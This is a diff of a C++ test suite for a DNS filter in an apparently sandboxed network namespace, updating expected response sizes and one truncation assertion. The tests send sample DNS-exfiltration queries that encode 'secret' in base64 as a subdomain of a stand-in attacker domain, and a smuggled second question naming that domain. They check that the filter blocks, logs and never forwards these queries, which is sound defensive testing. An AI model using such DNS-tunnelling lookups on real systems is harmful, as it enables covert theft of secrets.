@@ -128,9 +128,9 @@ UpstreamServer* DnsFilterNetnsTest::server_ = nullptr;
 TEST_F(DnsFilterNetnsTest, ExfiltrationThroughADeniedNameIsNxdomainLoggedAndNeverForwarded) {
   const int before = resolver_->Asked(kExfil);
   EXPECT_EQ(Dns(kFiltered, {"udp", kResolver, "c2VjcmV0.exfil.evil.test", "TXT"}),
-            "rcode=3 tc=0 id=20817 answers=0 addrs= bytes=54");
+            "rcode=3 tc=0 id=20817 answers=0 addrs= bytes=42");
   EXPECT_EQ(Dns(kFiltered, {"tcp", kResolver, "c2VjcmV0.exfil.evil.test", "A"}),
-            "rcode=3 tc=0 id=20817 answers=0 addrs= bytes=54");
+            "rcode=3 tc=0 id=20817 answers=0 addrs= bytes=42");
   EXPECT_EQ(resolver_->Asked(kExfil), before);
   const leash::v1::DecisionRecord record = RecordWith(kFiltered, "answered NXDOMAIN");
   EXPECT_EQ(record.action(), "block");
@@ -154,7 +154,7 @@ TEST_F(DnsFilterNetnsTest, AnAllowedNameResolvesOverUdpAndTcp) {
 
 TEST_F(DnsFilterNetnsTest, ALongAnswerIsTruncatedForAUdpAskerWithoutRoomAndWholeWithEdns0OrTcp) {
   const std::string cut = Dns(kFiltered, {"udp", kResolver, "big.allowed.test"});
-  EXPECT_TRUE(absl::StartsWith(cut, "rcode=0 tc=1 id=20817 answers=0 addrs= bytes=")) << cut;
+  EXPECT_EQ(cut, "rcode=0 tc=1 id=20817 answers=0 addrs= bytes=34");
   const std::string edns = Dns(kFiltered, {"udp", kResolver, "big.allowed.test", "--edns=4096"});
   EXPECT_TRUE(absl::StartsWith(edns, "rcode=0 tc=0 id=20817 answers=60 ")) << edns;
   // EDNS0 room smaller than the answer: truncated as well.
@@ -167,7 +167,7 @@ TEST_F(DnsFilterNetnsTest, ALongAnswerIsTruncatedForAUdpAskerWithoutRoomAndWhole
 TEST_F(DnsFilterNetnsTest, TwoQuestionsAndGarbageAreRefusedAndNeverForwarded) {
   const int before = resolver_->asked_total();
   EXPECT_EQ(Dns(kFiltered, {"udp", kResolver, "allowed.test", "--second=x.exfil.evil.test"}),
-            "rcode=1 tc=0 id=20817 answers=0 addrs= bytes=64");
+            "rcode=1 tc=0 id=20817 answers=0 addrs= bytes=53");
   EXPECT_TRUE(absl::StrContains(RecordWith(kFiltered, "2 questions").reason(),
                                 "(allowed.test, x.exfil.evil.test)"));
   const std::string refused = Dns(kFiltered, {"udp", kResolver, "x", "--garbage=4096"});
